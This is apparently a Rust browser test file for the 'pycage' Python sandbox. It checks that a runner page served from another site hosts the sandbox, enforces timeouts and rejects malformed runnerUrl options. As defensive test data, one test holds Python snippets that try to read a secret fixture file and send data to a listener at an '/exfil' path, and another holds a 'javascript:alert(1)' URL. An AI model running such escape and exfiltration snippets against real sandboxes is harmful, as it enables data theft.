//! `runnerUrl`: the sandbox document served by a page on another site
//! (tests/runner_host.py, on localhost; this page is on 127.0.0.1), so the
//! browser runs the sandbox in its own process.
use wasm_bindgen::{JsCast, JsValue};
use wasm_bindgen_futures::JsFuture;
use wasm_bindgen_test::*;
mod common;
use common::*;

wasm_bindgen_test_configure!(run_in_browser);

fn runner_host() -> &'static str {
    option_env!("PYCAGE_RUNNER_HOST").unwrap_or("http://localhost:8798")
}

/// Serves `runnerHtml()` from the other site, as a site would deploy it.
async fn publish_runner() -> String {
    let init = web_sys::RequestInit::new();
    init.set_method("POST");
    init.set_body(&pycage::runner_html().into());
    let url = format!("{}/runner.html", runner_host());
    let response = JsFuture::from(
        web_sys::window()
            .unwrap()
            .fetch_with_str_and_init(&url, &init),
    )
    .await;
    let response: web_sys::Response = response.expect("the runner host is up").unchecked_into();
    assert!(response.ok());
    url
}

fn frames() -> Vec<web_sys::Element> {
    let list = web_sys::window()
        .unwrap()
        .document()
        .unwrap()
        .query_selector_all("iframe")
        .unwrap();
    (0..list.length())
        .filter_map(|i| list.item(i)?.dyn_into().ok())
        .collect()
}

#[wasm_bindgen_test]
async fn a_runner_page_on_another_site_hosts_the_sandbox() {
    let url = publish_runner().await;
    let sb = sandbox(&[
        ("runnerUrl", url.as_str().into()),
        ("standby", false.into()),
    ])
    .await;
    let frame = frames()
        .into_iter()
        .find(|f| f.get_attribute("src").as_deref() == Some(url.as_str()))
        .expect("the runner frame");
    assert_eq!(
        frame.get_attribute("sandbox").as_deref(),
        Some("allow-scripts")
    );
    assert_eq!(sb.isolation(), "iframe");
    assert_healthy(&sb).await;
    // With COEP on the runner (and delegated by `allow`), interrupts work there too.
    assert_eq!(sb.interruptible(), cross_origin_isolated());
    run(&sb, "kept = 1").await;
    let ex = run_with(&sb, "while True: pass", obj(&[("timeoutMs", 300.into())])).await;
    assert_eq!(status(&ex), "timeout", "{}", json(&ex));
    assert_eq!(
        get(&ex, "interpreterReset"),
        JsValue::from(!cross_origin_isolated()),
        "{}",
        json(&ex)
    );
    assert_healthy(&sb).await;
    // The runner site's own data and network are as closed as the inline frame's.
    let origin = web_sys::window().unwrap().location().origin().unwrap();
    for code in [
        format!("import js\nf = js.WorkerGlobalScope.prototype.fetch\nr = await f.call(js.self, '{origin}/tests/fixtures/secret.json')\nprint(await r.text())"),
        format!("import js\nf = js.WorkerGlobalScope.prototype.fetch\nr = await f.call(js.self, '{url}')\nprint(await r.text())"),
        format!("import js\nf = js.WorkerGlobalScope.prototype.fetch\nawait f.call(js.self, '{}/exfil?d=runner')", listener()),
        "import js\nc = await js.caches.open('app')".to_string(),
    ] {
        let ex = run(&sb, &code).await;
        assert_eq!(status(&ex), "error", "{code}: {}", json(&ex));
        assert!(!json(&ex).contains("PYCAGE-SECRET-FILE-7f3a"));
    }
    sleep(300).await;
    assert!(
        !listener_log().await.iter().any(|r| r.contains("runner")),
        "the listener saw the runner's request"
    );
    sb.dispose();
    assert!(
        frames()
            .iter()
            .all(|f| f.get_attribute("src").as_deref() != Some(url.as_str())),
        "dispose removes the frame"
    );
}

#[wasm_bindgen_test]
async fn a_wrong_runner_url_is_a_clear_init_error() {
    let started = now();
    let url = format!("{}/not-a-runner.html", runner_host());
    let opts = options(&[
        ("runnerUrl", url.as_str().into()),
        ("standby", false.into()),
    ]);
    let err = pycage::Sandbox::create(Some(opts.unchecked_into()))
        .await
        .err()
        .expect("create rejects");
    assert_eq!(text(&err, "name"), "SandboxInitError");
    let message = text(&err, "message");
    assert!(
        message.contains(&url) && message.contains("runnerHtml()"),
        "{message}"
    );
    assert!(now() - started < 20_000.0, "took {} ms", now() - started);
}

#[wasm_bindgen_test]
async fn runner_url_options_are_checked() {
    for (extra, why) in [
        (
            vec![
                ("runnerUrl", JsValue::from("https://runner.example/")),
                ("isolation", "worker".into()),
            ],
            "worker mode",
        ),
        (
            vec![("runnerUrl", JsValue::from("javascript:alert(1)"))],
            "not http(s)",
        ),
        (vec![("runnerUrl", JsValue::from(42))], "not a string"),
    ] {
        let err = pycage::Sandbox::create(Some(options(&extra).unchecked_into()))
            .await
            .err()
            .expect(why);
        assert_eq!(text(&err, "name"), "OptionsError", "{why}");
        assert_eq!(text(&err, "field"), "runnerUrl", "{why}");
    }
}
